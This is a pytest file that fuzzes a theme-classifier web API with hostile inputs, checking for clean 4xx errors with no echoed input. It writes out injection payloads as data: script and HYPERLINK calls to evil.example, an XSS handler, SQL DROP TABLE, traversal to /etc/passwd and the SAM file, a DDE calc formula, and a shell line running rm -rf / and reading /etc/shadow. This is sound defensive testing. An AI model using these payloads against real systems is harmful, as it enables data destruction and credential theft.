"""Hostile input: every piece gets a clear 4xx or a harmless answer, and is not echoed by errors."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from starlette.testclient import TestClient

from model.classifier import ThemeClassifier
from tests.api_tools import PLAIN, THEMED, assert_error, client_on

JSON = {"content-type": "application/json"}
MARK = "xyzzy"  # stands in every hostile piece that an error might echo

# Texts that are odd, but texts: classified, or refused as such.
TEXTS = {
    "markup": f"<b>{THEMED}</b><img src=x onerror=alert('{MARK}')>",
    "script": f"<script>fetch('//evil.example/?{MARK}')</script> {THEMED}",
    "template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}" + THEMED,
    "formula": f'=HYPERLINK("http://evil.example/{MARK}";"x") {THEMED}',
    "formula, at": f"@SUM(1+1)*cmd|' /C calc'!A0 {THEMED}",
    "sql": f"'); DROP TABLE feedback; -- {THEMED}",
    "path": f"../../../../etc/passwd {THEMED}",
    "windows path": r"..\..\..\windows\system32\config\sam C:\con\con " + THEMED,
    "format string": "%s%s%s%n%x {0.__class__} {article} " + THEMED,
    "shell": f"$(rm -rf /) `reboot` ; cat /etc/shadow | {THEMED}",
    "header": f"x\r\nSet-Cookie: a=b\r\n\r\n{THEMED}",
    "log line": f"\n2026-01-01 INFO themewatch forged\n\x1b[31m{THEMED}",
    "bidi override": "\u202e" + THEMED + "\u202c\u2066\u2069",
    "zero width": "\u200b\u200c\u200d\u2060\ufeff".join(THEMED),
    "only zero width": "\u200b\u200c\u200d\u2060\ufeff",
    "tag characters": "".join(chr(0xE0000 + ord(c)) for c in THEMED),
    "combining": "a" + "\u0301" * 5_000,
    "null bytes": "\0".join(THEMED),
    "only null bytes": "\0\0\0",
    "control characters": "".join(map(chr, range(1, 32))) + THEMED,
    "lone high surrogate": f"{THEMED} \ud83d",
    "lone low surrogate": f"\udc00 {THEMED}",
    "swapped surrogates": f"\udc00\ud83d {THEMED}",
    "noncharacters": f"\ufffe\uffff\U0010ffff {THEMED}",
    "private use": "\ue000\uf8ff\U000f0000 " * 50,
    "special tokens": f"</s><s><pad><unk><mask> query: {THEMED}",
    "one long word": "x" * 400_000,
    "one long line of CJK": "币" * 100_000,
    "many lines": "\n".join("a" for _ in range(50_000)),
    "many sentences": "a. " * 100_000,
    "punctuation": "!?.,;:" * 10_000,
    "emoji": "👩‍👩‍👧‍👦" * 2_000,
    "ligatures that grow": "\ufdfa" * 5_000,
    "numbers": "1e309 " * 5_000,
    "deep markup": "<div>" * 20_000 + THEMED,
    "entities": "&lol;" * 5_000 + "<!ENTITY lol 'lol'>",
    "unicode spaces": "\u3000\u00a0\u2028\u2029" * 100 + THEMED,
    "too long": MARK * 100_001,
    "10 MB": MARK * 2_000_000,
}

# Bodies that are no valid request: a clear 4xx.
BODIES: dict[str, tuple[bytes, int]] = {
    "nothing": (b"", 422),
    "no JSON": (MARK.encode(), 400),
    "half an object": (b'{"text": "' + MARK.encode(), 400),
    "two objects": (b'{"text": "a"}{"text": "b"}', 400),
    "deep list": (b"[" * 100_000 + b"]" * 100_000, 400),
    "deep object": (b'{"text":' * 100_000 + b"1" + b"}" * 100_000, 400),
    "deep inside": (b'{"text": "a", "title": ' + b"[" * 50_000 + b"]" * 50_000 + b"}", 400),
    "not UTF-8": (b'{"text": "\xff\xfe"}', 400),
    "overlong UTF-8": (b'{"text": "\xc0\xaf"}', 400),
    "surrogates as UTF-8": (b'{"text": "\xed\xa0\x80"}', 422),
    "raw control character": (b'{"text": "a\x01b"}', 400),
    "bad escape": (rb'{"text": "\x41"}', 400),
    "huge number": (b'{"text": ' + b"9" * 100_000 + b"}", 400),
    "infinity": (b'{"text": Infinity}', 422),
    "NaN": (b'{"articles": NaN}', 422),
    "text is a list": (b'{"text": ["a"]}', 422),
    "text is an object": (b'{"text": {"$ne": ""}}', 422),
    "text is a number": (b'{"text": 1e308}', 422),
    "text is true": (b'{"text": true}', 422),
    "unknown key": (b'{"text": "a", "' + MARK.encode() + b'": 1}', 422),
    "lone surrogate as key": (rb'{"text": "a", "\ud800": 1}', 422),
    "prototype": (b'{"text": "a", "__proto__": {"x": 1}, "constructor": 1}', 422),
    "both forms": (b'{"text": "a", "articles": [{"text": "a"}]}', 422),
    "million articles": (b'{"articles": [' + b'{"text":"a"},' * 200_000 + b'{"text":"a"}]}', 422),
    "many keys": (json.dumps({f"k{i}": i for i in range(50_000)}).encode(), 422),
    "long id": (b'{"text": "a", "id": "' + b"i" * 201 + b'"}', 422),
    "language with path": (b'{"text": "a", "language": "../x"}', 422),
    "over the body limit": (b" " * (4 * 2**20 + 1), 413),
    "far over the body limit": (b'{"text": "' + b"x" * (20 * 2**20) + b'"}', 413),
}


@pytest.fixture(scope="module")
def client(tiny: ThemeClassifier, tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    with client_on(tiny, tmp_path_factory.mktemp("hostile")) as client:
        yield client


@pytest.mark.parametrize("name", TEXTS)
@pytest.mark.parametrize("place", ["classify", "title", "feedback"])
def test_hostile_texts(client: TestClient, name: str, place: str) -> None:
    text = TEXTS[name]
    body: dict[str, object] = {"text": text}
    if place == "title":
        body = {"text": PLAIN, "title": text[:2_000], "id": text[:50]}
    if place == "feedback":
        body = {"article": {"text": text}, "themes": [], "note": text[:2_000], "consent": True}
    path = "/v1/feedback" if place == "feedback" else "/v1/classify"
    answer = client.post(path, content=json.dumps(body), headers=JSON)
    if answer.status_code < 300:
        answer.json()
        return
    assert answer.status_code in (413, 422), answer.text[:300]
    assert_error(answer, answer.status_code)
    assert MARK not in answer.text


@pytest.mark.parametrize("name", BODIES)
@pytest.mark.parametrize("path", ["/v1/classify", "/v1/feedback"])
def test_hostile_bodies(client: TestClient, name: str, path: str) -> None:
    content, status = BODIES[name]
    answer = client.post(path, content=content, headers=JSON)
    assert answer.status_code in ({status} if path == "/v1/classify" else {status, 422}), answer.text[:300]
    assert_error(answer, answer.status_code)
    assert MARK not in answer.text


@pytest.mark.parametrize(
    "path",
    [
        "/v1/../../etc/passwd", "/v1/%2e%2e/%2e%2e/etc/passwd", "/v1/classify%00", "/v1/" + "a" * 5_000,
        "/v1/%ff%fe", "/v1/\u202eledom", "/v1//model", "/v1/model%0d%0aX: y",
        "/v1/classify;a=b", "/v1/model?x=" + "a" * 5_000, "/v1/themes?explain=%00", "/V1/MODEL",
    ],
)  # fmt: skip
def test_hostile_addresses(client: TestClient, path: str) -> None:
    answer = client.get(path)
    if "?" in path:
        assert answer.status_code == 200
    else:
        assert_error(answer, 404)


@pytest.mark.parametrize(
    "body",
    [
        {"themes": ["xyzzy"]},
        {"themes": ["__proto__"]},
        {"themes": "crypto_laundering"},
        {"themes": [1]},
        {"themes": None},
        {"verdicts": {"xyzzy": True}},
        {"verdicts": {"crypto_laundering": "yes"}},
        {"verdicts": {"crypto_laundering": 1}},
        {"verdicts": []},
        {"verdicts": {}},
        {"note": 7},
        {"note": "x" * 2_001},
        {"themes": [], "consent": "true"},
        {"themes": [], "consent": 1},
        {"themes": [], "result": {}},
        {"themes": [], "user": "xyzzy"},
        {},
    ],
)
def test_hostile_feedback(client: TestClient, body: dict[str, object]) -> None:
    answer = client.post("/v1/feedback", json={"article": {"text": PLAIN}} | body)
    assert_error(answer, 422)
    assert MARK not in answer.text


@pytest.mark.parametrize(
    "change",
    [
        {"scores": {"crypto_laundering": 2}},
        {"scores": {"crypto_laundering": -0.1}},
        {"scores": {"crypto_laundering": "0.5"}},
        {"scores": {f"k{i}": 0.5 for i in range(201)}},
        {"decisions": {"crypto_laundering": "xyzzy"}},
        {"model": {"name": "x" * 201, "version": "1"}},
        {"taxonomy": 1},
        {"language": "../x"},
    ],
)
def test_hostile_results(client: TestClient, change: dict[str, object]) -> None:
    result = client.post("/v1/classify", json={"text": PLAIN}).json() | change
    answer = client.post("/v1/feedback", json={"article": {"text": PLAIN}, "themes": [], "result": result})
    assert_error(answer, 422)
    assert MARK not in answer.text


def test_the_service_is_well_after_all_that(client: TestClient) -> None:
    assert client.get("/readyz").status_code == 200
    assert client.post("/v1/classify", json={"text": THEMED}).json()["decisions"]["crypto_laundering"] == "match"
    for line in client.get("/v1/feedback/export").text.split("\n")[:-1]:
        assert json.loads(line)["text"].strip()
